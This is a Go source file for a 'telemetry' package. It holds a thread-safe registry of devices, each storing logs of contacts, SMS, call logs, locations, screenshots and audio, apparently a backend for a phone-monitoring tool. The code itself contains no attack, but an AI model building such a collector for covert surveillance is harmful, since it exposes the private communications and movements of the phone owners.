package telemetry

import (
	"sort"
	"sync"
)

// Logger defines the logging interface used by this package.
// This allows different logging implementations to be used.
type Logger interface {
	Debug(msg string, args ...any)
	Info(msg string, args ...any)
	Warn(msg string, args ...any)
	Error(msg string, args ...any)
}

// noopLogger is a logger that does nothing.
type noopLogger struct{}

func (noopLogger) Debug(string, ...any) {}
func (noopLogger) Info(string, ...any)  {}
func (noopLogger) Warn(string, ...any)  {}
func (noopLogger) Error(string, ...any) {}

// Device is one tracked producer: merged info plus one append-only log
// per telemetry category. Devices are created by Registry.Ensure and live
// for the lifetime of the process.
type Device struct {
	id string

	infoMu sync.Mutex
	info   Info

	// announceMu serialises the store's mutate-then-publish sequences so
	// the event stream announces mutations in the order they became
	// visible to readers.
	announceMu sync.Mutex

	// logs is built once at creation and never mutated afterwards, so it
	// needs no lock of its own.
	logs map[Category]*Log
}

func newDevice(id string) *Device {
	logs := make(map[Category]*Log, len(AllCategories()))
	for _, cat := range AllCategories() {
		logs[cat] = &Log{}
	}
	return &Device{
		id:   id,
		info: Info{},
		logs: logs,
	}
}

// ID returns the producer-supplied device identity.
func (d *Device) ID() string {
	return d.id
}

// Log returns the append-only log for the given category.
// Returns nil for unrecognised categories.
func (d *Device) Log(cat Category) *Log {
	return d.logs[cat]
}

// mergeInfo merges fields into the device info with last-write-wins
// semantics per key and stamps LastUpdatedField. It returns an independent
// copy of the full merged info.
func (d *Device) mergeInfo(fields map[string]any) Info {
	d.infoMu.Lock()
	defer d.infoMu.Unlock()

	for k, v := range fields {
		d.info[k] = deepCopyValue(v)
	}
	d.info[LastUpdatedField] = nowTimestamp()
	return d.info.Clone()
}

// infoSnapshot returns an independent copy of the current info.
func (d *Device) infoSnapshot() Info {
	d.infoMu.Lock()
	defer d.infoMu.Unlock()
	return d.info.Clone()
}

// snapshot returns an immutable copy of the device's full state.
func (d *Device) snapshot() DeviceSnapshot {
	return DeviceSnapshot{
		Info:        d.infoSnapshot(),
		Contacts:    d.logs[CategoryContacts].Snapshot(),
		SMS:         d.logs[CategorySMS].Snapshot(),
		CallLogs:    d.logs[CategoryCallLog].Snapshot(),
		Locations:   d.logs[CategoryLocation].Snapshot(),
		Screenshots: d.logs[CategoryScreenshot].Snapshot(),
		Audio:       d.logs[CategoryAudio].Snapshot(),
	}
}

// Registry maps device identities to device records, creating records
// idempotently on first reference.
//
// All public methods are thread-safe.
type Registry struct {
	mu      sync.RWMutex
	devices map[string]*Device
	logger  Logger
}

// NewRegistry creates an empty device registry.
func NewRegistry() *Registry {
	return &Registry{
		devices: make(map[string]*Device),
		logger:  noopLogger{},
	}
}

// SetLogger sets the logger for the registry.
func (r *Registry) SetLogger(logger Logger) {
	r.logger = logger
}

// Ensure returns the device record for id, creating it with empty info
// and empty category logs if it does not exist. Concurrent calls for the
// same id observe the same instance; exactly one record per id ever exists.
func (r *Registry) Ensure(id string) *Device {
	r.mu.RLock()
	d, ok := r.devices[id]
	r.mu.RUnlock()
	if ok {
		return d
	}

	r.mu.Lock()
	defer r.mu.Unlock()

	// Re-check under the write lock: another goroutine may have won.
	if d, ok := r.devices[id]; ok {
		return d
	}

	d = newDevice(id)
	r.devices[id] = d
	r.logger.Info("device registered", "device_id", id, "devices", len(r.devices))
	return d
}

// Get returns the device record for id without creating it.
func (r *Registry) Get(id string) (*Device, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	d, ok := r.devices[id]
	return d, ok
}

// IDs returns the currently known device ids, sorted for deterministic
// iteration. The slice is a snapshot; later registrations do not appear.
func (r *Registry) IDs() []string {
	r.mu.RLock()
	ids := make([]string, 0, len(r.devices))
	for id := range r.devices {
		ids = append(ids, id)
	}
	r.mu.RUnlock()

	sort.Strings(ids)
	return ids
}

// Count returns the number of known devices.
func (r *Registry) Count() int {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return len(r.devices)
}
